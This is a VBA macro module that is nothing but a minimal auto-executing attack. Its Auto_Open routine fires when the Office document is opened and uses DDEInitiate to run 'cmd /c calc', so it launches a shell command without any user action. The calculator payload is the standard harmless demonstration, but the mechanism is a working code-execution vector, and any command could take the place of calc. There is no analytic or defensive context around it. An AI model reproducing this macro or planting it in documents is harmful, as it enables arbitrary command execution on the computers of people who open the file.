Attribute VB_Name = "Module1"
Sub Auto_Open()
  c = DDEInitiate("cmd", "/c calc")
End Sub
